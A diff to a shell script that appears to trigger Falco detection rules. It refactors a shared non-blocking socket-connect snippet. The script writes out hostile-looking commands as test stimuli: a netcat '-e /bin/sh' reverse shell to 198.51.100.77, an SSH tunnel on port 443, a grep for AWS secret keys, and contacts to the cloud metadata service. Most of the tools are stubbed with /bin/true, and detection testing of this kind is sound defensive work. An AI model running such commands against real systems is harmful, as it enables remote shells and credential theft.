@@ -21,9 +21,9 @@ PY=/usr/bin/python3
 cd "$W" || exit 1
 in_container() { sh -c 'echo $$ >'"$CG"'/cgroup.procs && exec "$@"' in_container "$@"; }
 as_nobody() { setpriv --reuid=65534 --regid=65534 --clear-groups "$@"; }
-# connect_nb PROGRAM IP PORT [udp]: a non-blocking connect by PROGRAM (an interpreter's copy).
-connect_nb() {
-  "$1" -c '
+# A non-blocking connect to IP PORT (argv), UDP when a third argument is given: the destination
+# never needs to answer.
+CONNECT_PY='
 import socket, sys
 kind = socket.SOCK_DGRAM if len(sys.argv) > 3 else socket.SOCK_STREAM
 s = socket.socket(socket.AF_INET, kind)
@@ -32,8 +32,9 @@ try:
     s.connect((sys.argv[1], int(sys.argv[2])))
 except BlockingIOError:
     pass
-s.close()' "$2" "$3" ${4:+udp}
-}
+s.close()'
+# connect_nb PROGRAM IP PORT [udp]: that connect by PROGRAM (an interpreter's copy).
+connect_nb() { "$1" -c "$CONNECT_PY" "$2" "$3" ${4:+udp}; }
 mkdir -p bin srv kube home/.ssh data mnt
 for t in nc socat nmap xmrig kubectl scp curl; do cp /bin/true "bin/$t"; done
 cp "$(readlink -f $PY)" bin/cat
@@ -86,14 +87,7 @@ grep -r aws_secret_access_key "$W/home" >/dev/null           # Find AWS Credenti
 timeout 5 ssh -o BatchMode=yes -o ConnectTimeout=1 -p 443 tunnel@198.51.100.77 true 2>/dev/null # Disallowed SSH Connection Non Standard Port
 in_container srv/runc -qec "sh -c true" /dev/null >/dev/null # Terminal shell in container
 in_container bin/nc -e /bin/sh 198.51.100.77 4444            # Netcat Remote Code Execution in Container
-in_container $PY -c '
-import socket
-s = socket.socket(); s.setblocking(False)
-try:
-    s.connect(("198.51.100.77", 6443))
-except BlockingIOError:
-    pass
-s.close()'                                                   # Contact K8S API Server From Container (port 6443)
+in_container $PY -c "$CONNECT_PY" 198.51.100.77 6443          # Contact K8S API Server From Container (port 6443)
 in_container $PY -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()' # Packet socket
 # Linux Kernel Module Injection Detected: finit_module (313) of a file that is no module, on a
 # kernel without module support.
@@ -125,14 +119,7 @@ except PermissionError:
     pass'                                                    # Non sudo setuid
 useradd -M -N -r -s /usr/sbin/nologin falco-live-tmp && userdel falco-live-tmp # User mgmt binaries
 cp /bin/true /dev/.falco-live-rules && rm -f /dev/.falco-live-rules # Create files below dev
-in_container $PY -c '
-import socket
-s = socket.socket(); s.setblocking(False)
-try:
-    s.connect(("169.254.169.254", 80))
-except BlockingIOError:
-    pass
-s.close()'                                                   # Contact cloud metadata service / EC2
+in_container $PY -c "$CONNECT_PY" 169.254.169.254 80         # Contact cloud metadata service / EC2
 in_container dpkg -l >/dev/null                              # Launch Package Management Process in Container
 in_container bin/nmap -sT 10.0.0.0/30                        # Launch Suspicious Network Tool in Container
 bin/nmap -sT 10.0.0.0/30                                     # Launch Suspicious Network Tool on Host
